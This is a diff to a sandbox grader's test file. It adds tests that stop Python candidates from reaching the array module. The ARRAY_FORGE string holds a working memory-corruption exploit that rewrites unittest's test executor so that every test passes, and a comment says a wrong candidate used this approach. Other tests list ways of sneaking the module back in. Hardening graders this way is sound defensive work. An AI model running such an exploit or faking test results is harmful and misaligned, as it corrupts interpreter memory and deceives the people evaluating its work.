@@ -213,12 +213,60 @@ describe("pyodide: code the dictionaries cannot restore", () => {
   });
 });
 
-describe("pyodide: the array module", () => {
-  it("import array (as multiprocessing does when it loads) works, and no route makes an array", async () => {
-    const rt = createRuntime("pyodide");
-    try {
-      await rt.ready();
-      const routes = `import importlib, importlib.machinery, importlib.util, multiprocessing, sys
+// The item assignment of array (CPython 3.11 natively, 3.14 in Pyodide) writes past its buffer when the value's
+// __index__ empties the array: with it, a wrong candidate wrote a generator that swallows every exception over
+// unittest's testPartExecutor and every test decided in the box passed (natively, where array was not refused).
+const ARRAY_FORGE = `import array
+import unittest.case
+_S = slice(1, None)
+_keep = []
+class _I:
+    __slots__ = ("a", "v")
+    def __index__(self):
+        del self.a[_S]
+        return self.v
+def _trigger(holder, hk, value, index):
+    a = array.array("Q", bytes(57 * 8))
+    i = _I(); i.a = a; i.v = value
+    holder[hk] = None
+    a[index] = i
+    return a
+def _get_mem():
+    B = [bytearray() for _ in range(4000)]
+    k = 3000
+    while not (id(B[k + 1]) - id(B[k]) == 64 and id(B[k]) - id(B[k - 1]) == 64):
+        k += 1
+    victim = B[k + 1]
+    a1 = _trigger(B, k, 0, 13)
+    h = [a1]; del a1
+    a2 = _trigger(h, 0, 1 << 60, 10)
+    _keep.extend([a2, B])
+    return victim
+def _part(self, test_case, subTest=False):
+    try:
+        yield
+    except BaseException:
+        pass
+M = _get_mem()
+_pe = unittest.case._Outcome.__dict__["testPartExecutor"]
+_keep.append(_part)
+M[id(_pe) + 24:id(_pe) + 32] = id(_part).to_bytes(8, "little")
+def add(a, b):
+    return a + b + 1
+`;
+
+describe.each(["pyodide", "native"] as const)("%s: the array module", (backend) => {
+  let rt: PythonRuntime;
+  beforeAll(async () => {
+    rt = createRuntime(backend);
+    await rt.ready();
+  });
+  afterAll(async () => {
+    await rt.dispose();
+  });
+
+  it("import array (as multiprocessing and socket do when they load) works, and no route makes an array", async () => {
+    const routes = `import glob, importlib, importlib.machinery, importlib.util, multiprocessing, socket, sys
 from concurrent.futures import ProcessPoolExecutor
 import array as _stand_in
 assert multiprocessing.cpu_count() >= 1
@@ -227,7 +275,7 @@ def _try(name, fn):
     try:
         fn().array("I", [1, 2])
         _made.append(name)
-    except ImportError:
+    except Exception:  # (refused, or not there: natively array is no built-in module)
         pass
 def _fresh():
     del sys.modules["array"]
@@ -235,20 +283,40 @@ def _fresh():
 def _builtin():
     import _imp
     return _imp.create_builtin(importlib.machinery.ModuleSpec("array", importlib.machinery.BuiltinImporter))
+def _file():
+    found = glob.glob(sys.base_prefix + "/lib/python3*/lib-dynload/array*")
+    return importlib.util.module_from_spec(importlib.util.spec_from_file_location("other", found[0])) if found else None
 _try("the module", lambda: _stand_in)
+_try("socket's", lambda: getattr(socket, "array", None))
 _try("reload", lambda: importlib.reload(_stand_in))
 _try("module_from_spec", lambda: importlib.util.module_from_spec(importlib.util.find_spec("array")))
+_try("its file under another name", _file)
 _try("import afresh", _fresh)
 _try("_imp.create_builtin", _builtin)
-if _made:
-    raise RuntimeError(f"an array was made through {_made}")
+_classes = [c for c in object.__subclasses__() if c.__name__ in ("array", "arrayiterator")]
+if _made or _classes:
+    raise RuntimeError(f"an array was made through {_made}, or its classes are loaded: {_classes}")
 `;
-      const r = await rt.run(taskRunRequest(task, `${task.canonical}\n${routes}`));
-      expect([r.collectionError, r.incident, r.allPassed]).toEqual([null, null, true]);
-      expect((await rt.run(taskRunRequest(task, task.canonical))).allPassed).toBe(true);
-    } finally {
-      await rt.dispose();
-    }
+    const r = await rt.run(taskRunRequest(task, `${task.canonical}\n${routes}`));
+    expect([r.collectionError, r.incident, r.allPassed]).toEqual([null, null, true]);
+    expect((await rt.run(taskRunRequest(task, task.canonical))).allPassed).toBe(true);
+  });
+
+  it("a wrong candidate that writes memory through array's item assignment does not pass", async () => {
+    const r = await rt.run({
+      files: {},
+      targetPath: "target.py",
+      candidate: ARRAY_FORGE,
+      tests:
+        "import unittest\nfrom target import add\n\nclass T(unittest.TestCase):\n    def test_add(self):\n        self.assertEqual(add(2, 2), 4)\n",
+      mode: "test",
+      expected: null,
+      packages: [],
+      timeLimitMs: 20_000,
+    });
+    expect(r.allPassed).toBe(false);
+    // (In Pyodide the attack does not find its layout of objects before it makes an array.)
+    if (backend === "native") expect(r.collectionError?.message).toContain("array is not available to code under test");
   });
 });
 
